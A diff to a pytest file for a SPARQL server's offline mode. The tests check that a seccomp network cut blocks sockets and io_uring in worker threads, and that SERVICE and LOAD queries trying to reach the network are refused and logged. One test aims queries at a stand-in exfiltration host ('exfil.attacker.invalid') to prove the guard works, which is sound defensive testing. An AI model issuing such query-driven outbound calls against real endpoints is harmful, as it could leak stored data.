@@ -6,11 +6,13 @@ the text and the listener; with ``--allow-remote`` the same texts reach it (the 
 
 from __future__ import annotations
 
+import ctypes
 import errno
 import http.server
 import logging
 import socket
 import threading
+import time
 from collections.abc import Callable, Iterator
 from typing import Any
 
@@ -29,6 +31,8 @@ class Listener:
 
     def __init__(self) -> None:
         calls = self.calls = []  # type: list[str]
+        self.failing = False  # answer 500
+        listener = self
 
         class Handler(http.server.BaseHTTPRequestHandler):
             def do_GET(self) -> None:
@@ -40,7 +44,7 @@ class Listener:
 
             def answer(self, body: bytes, media: str) -> None:
                 calls.append(self.command + " " + self.path)
-                self.send_response(200)
+                self.send_response(500 if listener.failing else 200)
                 self.send_header("Content-Type", media)
                 self.send_header("Content-Length", str(len(body)))
                 self.end_headers()
@@ -72,6 +76,10 @@ def blind_scan(monkeypatch: pytest.MonkeyPatch, listener: Listener) -> None:
 
     monkeypatch.setattr(protocol, "scan_sparql", blind)
     monkeypatch.setattr(fast_reads, "scan_sparql", blind)
+
+
+def time_out(seconds: float) -> None:
+    time.sleep(seconds)
 
 
 def _update(server: LiveServer, text: str) -> requests.Response:
@@ -144,8 +152,13 @@ def test_cut_network_binds_the_calling_thread_only(listener: Listener) -> None:
             socket.create_connection(("::1", 9), timeout=1)
         except OSError as error:
             seen["inet6"] = error.errno
-        for end in socket.socketpair():  # AF_UNIX stays
-            end.close()
+        try:  # AF_UNIX too: glibc asks local resolvers (nscd ...) over it
+            socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        except OSError as error:
+            seen["unix"] = error.errno
+        libc = ctypes.CDLL(None, use_errno=True)
+        if libc.syscall(425, 4, ctypes.create_string_buffer(120)) == -1:  # io_uring_setup
+            seen["io_uring"] = ctypes.get_errno()
         try:
             Store().update(f"LOAD <{listener.url}x>")
         except OSError as error:
@@ -155,7 +168,7 @@ def test_cut_network_binds_the_calling_thread_only(listener: Listener) -> None:
     thread.start()
     thread.join()
     assert seen == {"why_not": None, "inet": errno.EAFNOSUPPORT, "inet6": errno.EAFNOSUPPORT,
-                    "oxigraph": True}
+                    "unix": errno.EAFNOSUPPORT, "io_uring": errno.ENOSYS, "oxigraph": True}
     assert listener.calls == []
     with socket.create_connection(("127.0.0.1", listener.server.server_port), timeout=5):
         pass  # this thread was never cut
@@ -163,14 +176,29 @@ def test_cut_network_binds_the_calling_thread_only(listener: Listener) -> None:
 
 def test_a_thread_that_cannot_leave_the_network_says_so_once(
         monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
+    """Once a process, however many pools and threads (a review found one warning a pool);
+    and a runner whose threads keep the network hands nothing off for them."""
+    from provml.endpoint.sparql.evaluation import QueryRunner
+    from provml.store import open_store
+
     monkeypatch.setattr(offline, "cut_network", lambda: "no seccomp here")
+    monkeypatch.setattr(offline, "_TOLD", threading.Event())
     with caplog.at_level(logging.WARNING, logger="provml.endpoint"):
-        threads = offline.OfflineThreads("provml-test", threads=2)
+        pools = [offline.OfflineThreads("provml-test", threads=3) for _ in range(3)]
         try:
-            assert threads.call(sum, [1, 2]) == 3
-            assert threads.why_not == "no seccomp here"
+            for threads in pools:
+                assert [f.result() for f in [threads.submit(time_out, 0.05) for _ in range(3)]] \
+                    == [None] * 3  # three threads at once in each pool
+                assert threads.why_not == "no seccomp here"
         finally:
-            threads.close()
+            for threads in pools:
+                threads.close()
+        runner = QueryRunner(timeout_s=5, max_rows=10, offline=True)
+        try:
+            assert runner._reads is None and runner._updates is None
+            assert len(runner.run(open_store(), "SELECT * WHERE { VALUES ?x { 1 2 } }").rows) == 2
+        finally:
+            runner.close()
     warnings = [r.getMessage() for r in caplog.records if "keeps the network" in r.getMessage()]
     assert warnings == ["SPARQL evaluated in the server process keeps the network (no seccomp "
                         "here): SERVICE and LOAD are refused by the check before evaluation only"]
@@ -209,3 +237,43 @@ def test_a_query_worker_refused_a_network_namespace_gets_the_filter(listener: Li
                          timeout=60, check=True).stdout.split()
     assert out == ["None", str(errno.EAFNOSUPPORT), str(errno.EAFNOSUPPORT)]
     assert listener.calls == []
+
+
+def test_a_host_name_is_not_looked_up_and_the_guard_tripping_is_logged(
+        make_live_server: Callable[..., LiveServer], monkeypatch: pytest.MonkeyPatch,
+        caplog: pytest.LogCaptureFixture) -> None:
+    """A target named by host name fails in its lookup, not its socket: a 400 all the same (a
+    review found a 500 with a traceback for a query and a 502 for an update); and the server
+    log says that the scan let it by."""
+    url = "http://exfil.attacker.invalid/"
+    scan = protocol.scan_sparql
+    monkeypatch.setattr(protocol, "scan_sparql", lambda text, *, what="query", allowed=(): scan(
+        text, what=what, allowed=[url]))
+    monkeypatch.setattr(fast_reads, "scan_sparql", protocol.scan_sparql)
+    server = make_live_server({"TIMEOUT_S": 10})
+    with caplog.at_level(logging.WARNING, logger="provml.endpoint"):
+        query = server("GET", "/sparql", params={"query": f"SELECT * WHERE {{ SERVICE <{url}q> {{ }} }}"})
+        update = _update(server, f"LOAD <{url}a>")
+    for response in (query, update):
+        assert response.status_code == 400, response.text
+        assert "tried to reach the network" in response.json()["error"]
+    logged = [r.getMessage() for r in caplog.records if "passed the scan" in r.getMessage()]
+    assert len(logged) == 2 and "exfil.attacker.invalid/q" in logged[0]
+
+
+def test_query_workers_refuse_a_service_the_scan_missed_and_call_a_failing_allowed_one_once(
+        make_disk_server: Callable[..., LiveServer], listener: Listener, blind_scan: None) -> None:
+    """On an on-disk store the workers evaluate: the same 400; and an allowed service that
+    fails is called once (the workers took its failure for a broken view and asked again: three
+    calls)."""
+    server = make_disk_server()
+    text = f"SELECT * WHERE {{ SERVICE <{listener.url}q> {{ }} }}"
+    response = server("GET", "/sparql", params={"query": text})
+    assert response.status_code == 400, response.text
+    assert "tried to reach the network" in response.json()["error"]
+    assert listener.calls == []
+    listener.failing = True
+    allowed = make_disk_server(ALLOW_REMOTE=(listener.url,))
+    response = allowed("GET", "/sparql", params={"query": text})
+    assert response.status_code == 503, response.text
+    assert listener.calls == ["POST /q"]
